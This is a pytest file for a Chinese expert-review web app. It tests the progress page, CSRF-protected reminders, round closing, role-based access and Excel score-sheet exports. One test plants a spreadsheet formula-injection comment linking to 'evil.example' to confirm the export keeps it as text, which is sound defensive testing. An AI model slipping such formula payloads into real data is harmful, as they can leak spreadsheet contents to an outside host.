"""专家评审 → 评审进度 through HTTP: the page's numbers are its rows', 提醒 / 全部提醒 / 结束本轮 as the city office
(CSRF on), the auditor reading only, and the score sheets as Excel with every criterion and formula-like text kept
as text."""
import io
import re
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from app import clock, roles
from app.extensions import db
from app.models import AuditEvent, InboxMessage, ReviewRound, Stage
from tests import factories
from tests.test_rounds import AFTER, NOW, SCORES, mixed
from tests.test_rounds import world as rounds_world  # noqa: F401  (the same round as tests/test_rounds.py)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def world(rounds_world):  # noqa: F811
    mixed(rounds_world)
    return rounds_world


def client_of(app, account):
    client = app.test_client()
    if app.config["WTF_CSRF_ENABLED"]:  # csrf_on: the sign-in form carries its token too
        token = csrf_token(client.get("/login/").text)
        response = client.post("/login/", data={"username": account.username, "password": factories.PASSWORD,
                                                "csrf_token": token})
        assert response.status_code == 302
        return client
    return factories.login(client, account)


def csrf_token(page_text):
    found = re.search(r'name="csrf_token"[^>]*value="([^"]+)"|value="([^"]+)"[^>]*name="csrf_token"', page_text)
    return found.group(1) or found.group(2)


def cells(html, row_class):
    """[[cell text]] of the rows with this class."""
    rows = re.findall(rf'<tr class="{row_class}"[^>]*>(.*?)</tr>', html, re.S)
    return [[re.sub(r"<[^>]+>|\s+", " ", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
            for row in rows]


def test_the_pages_numbers_are_its_rows(app, world):
    page = client_of(app, world["city"]).get("/review-progress/")
    assert page.status_code == 200
    html = page.text
    experts = cells(html, "expert-row")
    assert [(r[0], r[2], r[3], r[4], r[5], r[6]) for r in experts] == [
        ("张专家", "第一组", "2 / 3", "1", "0", "0"),
        ("李专家", "第一组", "1 / 2", "0", "1", "1"),
        ("王专家", "第一组", "0 / 0", "0", "0", "0"),
        ("赵专家", "未分组", "0 / 1", "0", "1", "0"),
    ]
    submitted = sum(int(r[3].split(" / ")[0]) for r in experts)
    assigned = sum(int(r[3].split(" / ")[1]) for r in experts)
    drafts, not_started = sum(int(r[4]) for r in experts), sum(int(r[5]) for r in experts)
    totals = re.search(r'id="round-totals">(.*?)</p>', html, re.S).group(1)
    assert f"已提交 {submitted} / {assigned} 份评审（50%）" in totals
    assert f"已暂存 {drafts} 份，未开始 {not_started} 份，另有 1 份已回避；共 4 位专家" in totals
    missing = cells(html, "missing-row")
    assert len(missing) == drafts + not_started == 3
    assert ["申报人2", "东城区 · 景山街道", "张专家", "已暂存"] in missing
    assert "共 3 份" in html
    # The window in Beijing time with the time left; 提醒 only for experts with something unfinished.
    assert "评审时间：2026-06-01 09:00:00 至 2026-06-18 08:59:59" in html and "还剩 16 天 22 小时" in html
    assert html.count('class="remind-form"') == 3
    assert "全部提醒" in html and "结束本轮" in html and "不能重新开启" in html


def test_the_round_switch_shows_the_final_review(app, world):
    client = client_of(app, world["city"])
    page = client.get("/review-progress/?stage=final_review")
    assert page.status_code == 200 and "本轮还没有专家" in page.text
    final = db.session.query(ReviewRound).filter_by(stage="final_review").one()  # made on the office's first visit
    assert client.get(f"/review-progress/{final.id}").status_code == 200
    assert client.get("/review-progress/?stage=apply").status_code == 404


def test_remind_one_and_all_with_csrf(app, world, csrf_on):
    client = client_of(app, world["city"])
    page = client.get("/review-progress/")
    token = csrf_token(page.text)
    url = f"/review-progress/{world['round'].id}/remind"
    assert client.post(url, data={"expert_id": world["li"].id}).status_code == 400  # no token: refused
    response = client.post(url, data={"csrf_token": token, "expert_id": world["li"].id}, follow_redirects=True)
    assert "已向 1 位专家发送站内提醒。" in response.text
    assert [m.account_id for m in db.session.query(InboxMessage)] == [world["li"].account_id]
    response = client.post(url, data={"csrf_token": token, "expert_id": world["wang"].id}, follow_redirects=True)
    assert "没有需要提醒的专家" in response.text
    response = client.post(url, data={"csrf_token": token}, follow_redirects=True)
    assert "已向 3 位专家发送站内提醒。" in response.text
    assert db.session.query(InboxMessage).count() == 4
    assert client.post(url, data={"csrf_token": token, "expert_id": "x"}).status_code == 400


def test_close_too_early_then_after_the_window(app, world, csrf_on):
    client = client_of(app, world["city"])
    token = csrf_token(client.get("/review-progress/").text)
    url = f"/review-progress/{world['round'].id}/close"
    response = client.post(url, data={"csrf_token": token}, follow_redirects=True)
    assert "还有 3 份评审未提交" in response.text and "2026-06-18 08:59:59" in response.text
    clock.freeze(AFTER)
    response = client.post(url, data={"csrf_token": token}, follow_redirects=True)
    assert "「专家初审」已结束" in response.text
    assert "本轮已于 2026-06-18 09:00:00 由 市学习办甲 结束" in response.text
    assert 'id="close-round-form"' not in response.text and 'class="remind-form"' not in response.text
    response = client.post(url, data={"csrf_token": token}, follow_redirects=True)
    assert "不能重复结束" in response.text


def test_the_auditor_reads_but_neither_reminds_nor_closes(app, world):
    client = client_of(app, world["auditor"])
    page = client.get("/review-progress/")
    assert page.status_code == 200 and len(cells(page.text, "expert-row")) == 4
    assert "结束本轮" not in page.text and 'class="remind-form"' not in page.text
    for action in ("close", "remind"):
        assert client.post(f"/review-progress/{world['round'].id}/{action}").status_code in (302, 403)
    db.session.expire_all()
    assert not world["round"].is_closed and db.session.query(InboxMessage).count() == 0
    # The score sheet once the round is closed; until then 本轮结束后可导出.
    assert "本轮结束后可导出评分表" in page.text
    response = client.get(f"/review-progress/{world['round'].id}/scores.xlsx", follow_redirects=True)
    assert response.mimetype == "text/html" and "结束后才能导出评分表" in response.text
    clock.freeze(AFTER)
    from app import rounds

    rounds.close(world["city"], world["round"].id)
    heading = export(client, f"/review-progress/{world['round'].id}/scores.xlsx")[0][0]
    assert heading == f"评分表 · {world['campaign'].name} · 专家初审"  # closed: final, no warning


@pytest.mark.parametrize("role", [roles.L1_CLERK, roles.L2_CLERK, roles.EXPERT, roles.APPLICANT])
def test_other_roles_have_no_such_page(app, world, role):
    client = client_of(app, factories.account(role))
    assert client.get("/review-progress/").status_code in (302, 403)
    assert client.get(f"/review-progress/{world['round'].id}/scores.xlsx").status_code in (302, 403)


def export(client, url):
    response = factories.job_file(client, client.post(url))
    assert response.status_code == 200, response.status_code
    assert response.mimetype == XLSX
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = [[cell.data_type for cell in row] for row in sheet.iter_rows()]
    title = sheet.title
    workbook.close()
    return [rows[0][0], title], rows, types, response


def test_the_round_score_sheet_has_every_criterion_and_keeps_formulas_as_text(app, world):
    r = world["round"]
    evil = factories.assignment(r, world["apps"][3], world["wang"], "submitted", SCORES,
                                comment='=HYPERLINK("http://evil.example/?q="&A1,"点我")')
    (heading, sheet_name), rows, types, response = export(client_of(app, world["city"]),
                                                          f"/review-progress/{r.id}/scores.xlsx")
    assert heading.endswith("（本轮尚未结束，评分可能变动）") and sheet_name == "评分表（本轮尚未结束）"
    header = rows[1]
    labels = [c.label for c in r.criteria]
    assert header == ["序号", "申报人", "一级单位", "二级单位", "评审专家", "专家工作单位", *labels,
                      "加权总分", "评审意见", "提交时间"]
    lines = [dict(zip(header, row)) for row in rows[2:]]
    assert len(lines) == 4  # the submitted ones only: 张 ×2, 李, 王
    assert sorted((line["申报人"], line["评审专家"]) for line in lines) == [
        ("申报人0", "张专家"), ("申报人0", "李专家"), ("申报人1", "张专家"), ("申报人3", "王专家")]
    line = next(line for line in lines if line["评审专家"] == "王专家")
    assert [line[label] for label in labels] == list(SCORES.values())
    assert line["加权总分"] == float(evil.total) == 78.5
    assert line["评审意见"] == '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
    row_types = types[2 + lines.index(line)]
    assert row_types[header.index("评审意见")] == "s"  # a string, never a formula
    assert line["提交时间"] == NOW and (line["一级单位"], line["二级单位"]) == ("东城区", "东华门街道")
    assert "filename*=UTF-8''" + quote(f"评分表-{world['campaign'].name}-专家初审-2026-06-01.xlsx") in \
        response.headers["Content-Disposition"]
    log = db.session.query(AuditEvent).filter_by(action="export.score_sheet").one()
    assert log.detail == {"rows": 4, "expert": None, "round_closed": False}


def test_the_expert_score_sheet_holds_that_experts_reviews(app, world):
    r = world["round"]
    client = client_of(app, world["city"])
    url = f"/review-progress/{r.id}/experts/{world['zhang'].id}/scores.xlsx"
    (heading, _sheet), rows, _types, _response = export(client, url)
    assert "张专家" in heading
    assert [row[4] for row in rows[2:]] == ["张专家", "张专家"]
    assert client.get(f"/review-progress/{r.id}/experts/{world['zhang'].id + 999}/scores.xlsx").status_code == 404
    outsider = factories.expert(first_name="局外专家")
    assert client.get(f"/review-progress/{r.id}/experts/{outsider.id}/scores.xlsx").status_code == 404
    assert client.get(f"/review-progress/{r.id + 999}/scores.xlsx").status_code == 404


def test_the_page_opens_on_the_round_open_now_for_the_auditor_too(app, world):
    from app import schedule

    schedule.open_stage(world["campaign"], Stage.FINAL_REVIEW, at=NOW)
    db.session.commit()
    page = client_of(app, world["auditor"]).get("/review-progress/")
    assert '<li class="active">' in page.text  # the tab of the round open now (no role="presentation": axe)
    active = re.search(r'class="active">\s*<a [^>]*>([^<]+)</a>', page.text).group(1)
    assert active == "专家复审" and "本轮尚未设置" in page.text  # the auditor makes no round
    assert db.session.query(ReviewRound).filter_by(stage="final_review").count() == 0
    client_of(app, world["city"]).get("/review-progress/")
    assert db.session.query(ReviewRound).filter_by(stage="final_review").count() == 1


def test_progress_leads_to_assignments_and_says_when_applications_lack_experts(app, world):
    """From 评审进度 the office reaches 评审分配 (the round, and each expert's own assignments), and is told when
    applications lack experts (e.g. after a decline nobody of the panel could take over)."""
    from app import assignment

    short = len(assignment.missing(world["round"]))
    assert short
    html = client_of(app, world["city"]).get("/review-progress/").text
    assert f"有 {short} 份申报还缺评审专家" in html
    assert 'href="/review-assignments/?stage=initial_review"' in html
    # Once the round is closed nothing can be assigned: the page no longer sends the office there for it.
    closed = world["round"]
    closed.closed_at, closed.closed_by_id = clock.now(), world["city"].id
    db.session.commit()
    assert "缺评审专家" not in client_of(app, world["city"]).get("/review-progress/").text
    closed.closed_at = closed.closed_by_id = None
    db.session.commit()
    assert f'href="/review-assignments/?stage=initial_review&amp;expert={world["zhang"].id}"' in html
    # The auditor reads 评审分配 too, so the links are there for them as well.
    assert 'id="to-assignments"' in client_of(app, world["auditor"]).get("/review-progress/").text
